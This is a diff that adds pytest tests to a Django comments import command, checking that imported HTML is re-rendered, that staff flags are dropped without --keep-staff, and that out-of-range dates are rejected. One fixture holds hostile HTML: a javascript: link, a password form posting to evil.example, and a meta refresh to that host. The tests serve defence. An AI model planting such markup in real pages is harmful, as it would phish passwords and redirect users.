@@ -20,6 +20,7 @@ from comments import backup, cursors
 from comments.management.commands.export_comments import NO_SUCH_POST
 from comments.management.commands.import_comments import IMPORTED
 from comments.records import CommentAuthor
+from comments.stores import get_store
 from infra import mongo
 
 pytestmark = pytest.mark.usefixtures("each_store")
@@ -249,3 +250,71 @@ def test_a_line_that_is_not_a_comment_stops_the_import_naming_it(tmp_path, line,
     dump.write_text("\n" + line + "\n")
     with pytest.raises(CommandError, match=re.escape(backup.BAD_LINE.format(number=2, reason=reason))):
         run_import(dump)
+
+
+# --- Issue 25: what a file may not decide ----------------------------------------------------
+
+
+HOSTILE_HTML = ('<p><a href="javascript:alert(1)">prize</a></p><form action="https://evil.example/">'
+                '<input type="password" name="p"></form><meta http-equiv="refresh" content="0;url=https://evil.example/">')
+
+
+def hostile_line(post, **author) -> str:
+    document = {
+        "_id": ObjectId(), "discussion_id": post.id, "parent_id": None, "slug": "k3x7q2ab",
+        "full_slug": "2026.11.29.20.41.07.123456:k3x7q2ab", "thread": "k3x7q2ab",
+        "posted": datetime(2026, 11, 29, 20, 41, 7, 123000, tzinfo=timezone.utc),
+        "author": {"id": None, "name": "Bruno Okafor", "email": "", **author},
+        "text": "Hello *there*", "html": HOSTILE_HTML, "form_key": None, "status": "approved", "ip": None,
+    }
+    return json_util.dumps(document, json_options=backup.JSON_OPTIONS) + "\n"
+
+
+def shown(post) -> str:
+    return Client().get(reverse("comments:discussion", args=[post.slug])).content.decode()
+
+
+def test_a_files_html_is_not_trusted_it_is_rendered_again_from_its_text(make_post, tmp_path):
+    """A line whose `html` holds a javascript: link, a password form and a meta
+    refresh shows its text, rendered as the site renders a comment."""
+    post = make_post()
+    dump = tmp_path / "hostile.jsonl"
+    dump.write_text(hostile_line(post))
+    run_import(dump)
+    page = shown(post)
+    assert "Hello <em>there</em>" in page
+    assert "javascript:" not in page and 'type="password"' not in page and "http-equiv" not in page
+
+
+def test_staff_comes_from_a_file_only_when_the_operator_says_so(make_post, tmp_path):
+    """`author.staff` in a line is dropped (no Staff badge for a fake editor) unless
+    `--keep-staff` says the file is the site's own export."""
+    post = make_post()
+    dump = tmp_path / "staff.jsonl"
+    dump.write_text(hostile_line(post, staff=True))
+    run_import(dump)
+    assert 'class="staff-badge"' not in shown(post)
+    [stored] = backup_documents(post)
+    assert "staff" not in stored["author"]
+    other = make_post()
+    dump.write_text(hostile_line(other, staff=True))
+    call_command("import_comments", "--keep-staff", str(dump), stdout=StringIO())
+    assert 'class="staff-badge"' in shown(other)
+
+
+def test_keep_staff_is_for_json_lines_only(tmp_path):
+    with pytest.raises(CommandError, match="--keep-staff is not for --format disqus"):
+        call_command("import_comments", "--format", "disqus", "--keep-staff", str(tmp_path / "x.xml"))
+
+
+@pytest.mark.parametrize("date", ["9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+00:01"])
+def test_a_date_past_year_9999_or_before_year_1_in_utc_is_a_bad_line(tmp_path, date):
+    """The import stops at that line naming it (it used to crash with OverflowError)."""
+    dump = tmp_path / "far.jsonl"
+    dump.write_text('{"_id": {"$oid": "6751aa3e9f1c2b0012345678"}, "posted": {"$date": "%s"}}\n' % date)
+    with pytest.raises(CommandError, match=re.escape(backup.BAD_LINE.format(number=1, reason="not Extended JSON"))):
+        run_import(dump)
+
+
+def backup_documents(post) -> list[dict]:
+    return list(get_store().iter_documents(discussion_id=post.id))
